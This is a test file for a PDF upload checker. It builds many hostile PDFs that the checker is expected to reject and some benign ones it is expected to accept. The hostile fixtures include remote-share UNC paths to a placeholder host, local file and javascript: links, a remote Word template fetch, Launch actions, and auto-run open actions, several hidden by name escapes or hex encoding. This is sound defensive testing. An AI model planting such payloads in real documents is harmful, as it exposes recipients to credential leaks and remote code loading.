// A zoo of PDFs: those that call home, open or run something when they are read are refused, however it is written; ordinary ones are taken.
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { expect, test } from 'vitest'
import { checkPdf } from '#kit/server/uploads/pdf.ts'
import { pdfOf, rawPdf, stream } from '#tests/support/uploads.ts'

const UNC = '(\\\\\\\\203.0.113.66\\\\share\\\\x.pdf)'
const object = (number: number, body: string) => `${number} 0 obj\n${body}\nendobj`
/** The root again, as a later version of it, with more in it. */
const root = (more: string) => object(1, `<< /Type /Catalog /Pages 2 0 R ${more} >>`)
const page = (more: string) => object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] ${more} >>`)
const link = (action: string) =>
  page(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`)
/** In a compressed stream of objects, the first of which is number 7. */
const packed = (body: string) =>
  stream(6, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`7 0 ${body}`)))
const plainStream = (number: number, dict: string) => stream(number, dict, Buffer.from('q Q'))
const replacing = async (change: (pdf: PDFDocument) => unknown) => {
  const before = Buffer.from(await (await pdfOf(1)).save())
  const pdf = await PDFDocument.load(before, { forIncrementalUpdate: true })
  await change(pdf)
  return Buffer.from(await pdf.save())
}

const ACTIONS: Record<string, string> = {
  'goes to a file elsewhere': `<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`,
  'goes to a file elsewhere, named for other systems': `<< /S /GoToR /F << /Type /Filespec /Unix ${UNC} >> >>`,
  'goes to a file elsewhere, by its name in Unicode': `<< /S /GoToR /F << /UF ${UNC} >> >>`,
  'reads on in a file elsewhere': `<< /S /Thread /F ${UNC} /D 0 >>`,
  'reads on, without a file': '<< /S /Thread /D 0 >>',
  'plays a movie': '<< /S /Movie /T (x) >>',
  'plays a sound': '<< /S /Sound /Sound 8 0 R >>',
  'plays media': '<< /S /Rendition /OP 0 >>',
  'imports data': `<< /S /ImportData /F ${UNC} >>`,
  'sends the form': '<< /S /SubmitForm >>',
  'opens a program': '<< /S /Launch >>',
  'opens a file of the computer': '<< /S /URI /URI (file:///C:/Windows/win.ini) >>',
  'opens a file of another computer': `<< /S /URI /URI ${UNC} >>`,
  'opens a file of another computer, with slashes': '<< /S /URI /URI (//203.0.113.66/share/x) >>',
  'opens an address of another kind': '<< /S /URI /URI (ms-word:ofe|u|http://203.0.113.66/x.dotm) >>',
  'opens a script': '<< /S /URI /URI (javascript:app.alert(1)) >>',
  'opens an address in hexadecimal': `<< /S /URI /URI <${Buffer.from('file://x').toString('hex')}> >>`,
  'opens an address in two bytes a letter': '<< /S /URI /URI <FEFF00660069006C0065003A> >>',
  'opens an address with escapes': '<< /S /URI /URI (\\146ile://x/y) >>',
  'has two kinds': '<< /S /JavaScript /S /GoTo /JS (app.alert\\(1\\)) /D [3 0 R /Fit] >>',
}

const CALLS: [string, () => Buffer | Promise<Buffer>][] = [
  ...Object.entries(ACTIONS).flatMap(([what, action]): [string, () => Buffer][] => [
    [`whose link ${what}`, () => rawPdf(link(action))],
    [`whose link ${what}, elsewhere in the file`, () => rawPdf(link('7 0 R'), object(7, action))],
    [`whose link ${what}, in a stream of objects`, () => rawPdf(link('7 0 R'), packed(action))],
    [`that, opened, ${what}`, () => rawPdf(root(`/OpenAction ${action}`))],
  ]),
  ['with a disguised name', () => rawPdf(link('<< /S /#47oToR /#46 7 0 R >>'), object(7, UNC))],
  ['with a disguised name and no file', () => rawPdf(link('<< /S /G#6fT#6FR /D [0 /Fit] >>'))],
  ['with a disguised key', () => rawPdf(root('/Op#65nAction << /S /URI /URI (https://example.com) >>'))],
  [
    'whose kind of action stands elsewhere',
    () => rawPdf(link('<< /S 7 0 R /D 0 >>'), object(7, '8 0 R'), object(8, '/Thread')),
  ],
  [
    'whose address stands elsewhere',
    () => rawPdf(link('<< /S /URI /URI 7 0 R >>'), object(7, '(file://x/y)')),
  ],
  ['whose file name stands elsewhere', () => rawPdf(link('<< /F 7 0 R >>'), object(7, UNC))],
  [
    'whose action was another before',
    () => rawPdf(object(7, `<< /S /GoToR /F ${UNC} >>`), object(7, '<< /S /GoTo /D [3 0 R /Fit] >>')),
  ],
  [
    'to which it was added later',
    () =>
      replacing((pdf) =>
        pdf.catalog.set(
          PDFName.of('OpenAction'),
          pdf.context.obj({ S: 'GoToR', F: PDFString.of('\\\\203.0.113.66\\share') }),
        ),
      ),
  ],
  ['with a page outside the file', () => rawPdf(page('/Contents 7 0 R'), plainStream(7, `/F ${UNC}`))],
  [
    'with a page at an address',
    () => rawPdf(page('/Contents 7 0 R'), plainStream(7, '/F << /FS /URL /F (http://203.0.113.66) >>')),
  ],
  ['with objects outside the file', () => rawPdf(plainStream(7, `/Type /ObjStm /N 0 /First 0 /F ${UNC}`))],
  ['with objects this reader overlooks', () => rawPdf(plainStream(7, '/Type 8 0 R /N 1 /First 4'))],
  ['with a picture of another file', () => rawPdf(object(7, `<< /Ref << /F ${UNC} /Page 0 >> >>`))],
  ['that is to be read beside a share', () => rawPdf(root(`/URI << /Base ${UNC} >>`))],
  [
    'that opens a page of the web by itself',
    () => rawPdf(root('/OpenAction << /S /URI /URI (https://example.com) >>')),
  ],
  ['that prints by itself', () => rawPdf(root('/OpenAction << /S /Named /N /Print >>'))],
  [
    'that goes to a page and then to the web by itself',
    () =>
      rawPdf(root('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>'), object(7, '<< /S /URI >>')),
  ],
  [
    'whose page opens the web by itself',
    () => rawPdf(page('/AA << /O << /S /URI /URI (https://example.com) >> >>')),
  ],
  [
    'whose page opens the web by itself, from elsewhere',
    () => rawPdf(page('/AA 7 0 R'), object(7, '<< /C 8 0 R >>'), object(8, '<< /S /URI >>')),
  ],
  ['with a sound in it', () => rawPdf(object(7, '<< /Type /Annot /Subtype /Sound /Sound 8 0 R >>'))],
  ['with a movie beside it', () => rawPdf(object(7, '<< /Type /Annot /Subtype /Movie >>'))],
]

test.each(CALLS)('a PDF %s is refused', async (_, make) => {
  expect(await checkPdf(await make())).toEqual({ ok: false, reason: 'active' })
})

const ORDINARY: [string, () => Buffer | Promise<Buffer>][] = [
  [
    'with links to pages of the web',
    () => rawPdf(link('<< /S /URI /URI (https://www.example.gov.ph/a?b=c#d) >>')),
  ],
  ['with a link typed in capitals', () => rawPdf(link('<< /S /URI /URI (HTTP://EXAMPLE.GOV.PH) >>'))],
  ['with an e-mail address', () => rawPdf(link('<< /S /URI /URI (mailto:ana@example.com) >>'))],
  ['with a telephone number', () => rawPdf(link('<< /S /URI /URI (tel:+63495550100) >>'))],
  ['with an address without its scheme', () => rawPdf(link('<< /S /URI /URI (www.example.com/a) >>'))],
  [
    'with a link in hexadecimal',
    () => rawPdf(link(`<< /S /URI /URI <${Buffer.from('https://example.com').toString('hex')}> >>`)),
  ],
  ['that opens at its first page', () => rawPdf(root('/OpenAction [3 0 R /FitH null]'))],
  ['that opens at a place', () => rawPdf(root('/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>'))],
  [
    'that opens at a place said elsewhere, in a circle',
    () => rawPdf(root('/OpenAction 7 0 R'), object(7, '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>')),
  ],
  ['whose opening is nothing', () => rawPdf(root('/OpenAction null'))],
  ['whose page goes to a place', () => rawPdf(page('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'))],
  [
    'with a table of contents',
    () => rawPdf(root('/Outlines 7 0 R'), object(7, '<< /A << /S /GoTo /D (chapter.1) >> /F 4 >>')),
  ],
  [
    'of a word processor, with its structure',
    () =>
      rawPdf(
        root(
          '/Lang (en-PH) /MarkInfo << /Marked true >> /StructTreeRoot 7 0 R /ViewerPreferences << /DisplayDocTitle true >>',
        ),
        object(7, '<< /Type /StructTreeRoot /K [8 0 R] /RoleMap << /Title /P >> >>'),
        object(8, '<< /Type /StructElem /S /Link /P 7 0 R /Pg 3 0 R /K [0] >>'),
      ),
  ],
  [
    'of a scanner: one picture a page',
    () =>
      rawPdf(
        page('/Contents 7 0 R /Resources << /ProcSet [/PDF /ImageC] /XObject << /Im0 8 0 R >> >>'),
        stream(7, '', Buffer.from('q 300 0 0 400 0 0 cm /Im0 Do Q')),
        stream(
          8,
          '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
          Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
        ),
      ),
  ],
  [
    'whose fonts have the names of keys',
    () =>
      rawPdf(
        page(
          '/Resources << /Font << /F 7 0 R /AA 7 0 R /JS 7 0 R /URI 7 0 R >> /ExtGState << /AA 8 0 R >> >>',
        ),
        object(7, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
        object(8, '<< /Type /ExtGState /SMask << /S /Luminosity /G 9 0 R >> >>'),
      ),
  ],
  [
    'of columns that are read on',
    () => rawPdf(object(7, '<< /Type /Thread /F 8 0 R /I << /Title (News) >> >>')),
  ],
  ['with fields and their marks', () => rawPdf(object(7, '<< /FT /Tx /Subtype /Widget /F 4 /T (name) >>'))],
  ['with a colour profile', () => rawPdf(plainStream(7, '/N 3'))],
  ['added to after it was signed', () => replacing((pdf) => pdf.addPage().drawText('Annex'))],
]

test.each(ORDINARY)('a PDF %s is taken', async (_, make) => {
  expect(await checkPdf(await make())).toEqual({ ok: true, value: null })
})
